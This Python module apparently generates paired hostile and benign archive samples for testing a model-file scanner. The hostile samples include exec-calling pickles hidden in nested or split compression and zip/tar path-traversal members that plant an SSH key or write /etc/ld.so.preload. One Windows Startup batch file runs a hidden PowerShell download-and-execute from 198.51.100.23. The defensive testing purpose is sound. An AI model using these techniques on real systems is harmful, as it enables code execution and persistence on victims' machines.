"""Archives and compressed streams."""
import bz2
import gzip
import io
import json
import lzma
import struct
import tarfile
import zipfile

from assembly import call, glob, model, pickle
from pair import CODE

from .libraries import array_of, npy
from .shared import elf, floats, noise, plain_tensors, png, tarred, zipped

F = "archives"


def seven(name: str, data: bytes) -> bytes:
    import py7zr

    out = io.BytesIO()
    with py7zr.SevenZipFile(out, "w") as z:
        z.writestr(data, name)
    return out.getvalue()


def lz4_frames(*parts: bytes) -> bytes:
    import lz4.frame

    return b"".join(lz4.frame.compress(p, store_size=False) for p in parts)


def zstd(data: bytes) -> bytes:
    import zstandard

    return zstandard.ZstdCompressor(level=3).compress(data)


def renamed(data: bytes, member: bytes, shown: bytes) -> bytes:
    """The local header keeps `member`, the central directory says `shown` (same length)."""
    cut = data.index(b"PK\x01\x02")
    return data[:cut] + data[cut:].replace(member, shown)


def gap(data: bytes, extra: bytes) -> bytes:
    """`extra` between the last member and the central directory; offsets mended."""
    end = data.rindex(b"PK\x05\x06")
    start = struct.unpack_from("<I", data, end + 16)[0]
    tail = bytearray(data[end:])
    struct.pack_into("<I", tail, 16, start + len(extra))
    return data[:start] + extra + data[start:end] + bytes(tail)


def add(out):
    def pair(name, hostile, twin, why, prove=None, file="model.zip"):
        out.add(F, name, hostile, twin, prove=prove, file=file, why=why)

    bad, good = pickle(model(call(glob("builtins", "exec"), CODE))), pickle(model({"labels": ["cat", "dog"]}))
    half = zipped({"model.pkl": good, "README.md": b"# tiny\n"})
    pair("two-zips-in-a-row", half + zipped({"model.pkl": bad, "README.md": b"# tiny\n"}), zipped({"model.pkl": good, "README.md": b"# tiny\n"}),
         "Two zips one after the other: who reads from the front sees the good model, zipfile opens the other.", "ninth-zip-pickle:model.pkl")
    deep = lambda p: zipped({"weights/part": seven("inner", tarred({"d/e": lzma.compress(bz2.compress(p))}, "w:gz"))})  # noqa: E731
    pair("five-wrappers-no-names", deep(bad), deep(good), "A pickle in bz2 in xz in tar.gz in 7z in zip, no name with an extension.", "ninth-deep")
    through = lambda target, name: tarred([("ckpt/latest", ("link", target)), (name, b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGZha2U= a@b\n"), ("ckpt/model.safetensors", plain_tensors())], "w:xz")  # noqa: E731
    pair("write-through-link", through("../../../../root/.ssh", "ckpt/latest/authorized_keys"), through("step-100", "ckpt/step-100/authors.txt"), "A member is written through a link that leaves the folder: an SSH key is planted. Not run: home folders.", None, "ckpt.tar.xz")
    pax = lambda path: tarred([("ckpt/optimizer.bin", floats(8), {"path": path}), ("ckpt/model.safetensors", plain_tensors())], "w", tarfile.PAX_FORMAT)  # noqa: E731
    pair("pax-path-leaves", pax("../../../../etc/ld.so.preload"), pax("ckpt/optimizer-state-of-the-last-epoch.bin"), "A PAX record gives the harmless member another path, outside the folder. Not run: it would write there.", None, "ckpt.tar")
    cut = len(bad) // 2
    split = lambda p: gzip.compress(p[:cut], mtime=0) + gzip.compress(p[cut:], mtime=0)  # noqa: E731
    pair("gzip-in-two-members", split(bad), split(good), "The pickle is cut in two gzip members; neither is whole, both together are.", "ninth-gzip-pickle", "model.pkl.gz")
    skip = lambda p: b"\x5a\x2a\x4d\x18" + struct.pack("<I", 64) + noise(64, 3) + zstd(p)  # noqa: E731
    pair("zstd-after-skippable-frame", skip(bad), skip(good), "The zstd stream starts with a skippable frame, so the file does not look like zstd; the next frame is a hostile pickle.", "ninth-zstd", "model.pkl.zst")
    array = lambda obj: zipped({"w.npy": npy("'<f4'", "(4,)", floats(4)), "labels.npy": npy("'|O'", "(2,)", pickle(array_of(["cat", obj])))}, zipfile.ZIP_LZMA)  # noqa: E731
    plain = zipped({"w.npy": npy("'<f4'", "(4,)", floats(4)), "labels.npy": npy("'<U3'", "(2,)", "catdog".encode("utf-32-le"))}, zipfile.ZIP_LZMA)
    pair("npz-lzma-object", array(call(glob("builtins", "exec"), CODE)), plain, "An .npz whose object array is packed with zip method 14 (LZMA).", "numpy", "labels.npz")
    pair("backslash-slip", zipped({"model/config.json": b"{}", "..\\..\\..\\Users\\Public\\Start Menu\\Programs\\Startup\\sync.bat": b"@echo off\r\npowershell -w hidden -c \"iex (iwr http://198.51.100.23/s)\"\r\n", "model/w.safetensors": plain_tensors()}),
         zipped({"model/config.json": b"{}", "model\\scripts\\sync.bat": b"@echo off\r\necho done\r\n", "model/w.safetensors": plain_tensors()}), "Backslashes lead into the start-up folder on Windows. Not run: other system.")
    shard = lambda obj, ext: tarred({"000001.cls": b"3", "000001.png": png(), f"000001.{ext}": obj})  # noqa: E731
    pair("webdataset-pickle-field", shard(bad, "pyd"), shard(json.dumps({"labels": ["cat", "dog"]}).encode(), "json"), "WebDataset unpickles a field that ends in .pyd. Shown with pickle; the package is not installed.", "ninth-webdataset", "shard-000000.tar")
    pair("lz4-two-frames", lz4_frames(b"\x80\x04N.", bad), lz4_frames(b"\x80\x04N.", good), "joblib's lz4: the second frame of the stream holds a second pickle that calls exec.", "ninth-lz4", "model.pkl.lz4")
    base = zipped({"model/config.json": b"{}", "model/w.safetensors": plain_tensors()})
    pair("program-between-members", gap(base, elf(size=5000)), base, "An ELF program lies between the last member and the directory of the zip, owned by no member.")
    names = lambda p, shown: renamed(zipped({"a/model.pkl": p, "a/config.json": b"{}"}), b"a/model.pkl", shown)  # noqa: E731
    pair("two-names-for-a-member", names(bad, b"a/notes.txt"), names(good, b"a/model.pkl"), "The local header says model.pkl, the directory says notes.txt: a reader that streams extracts a hostile pickle.", "ninth-stream-zip:a/model.pkl")
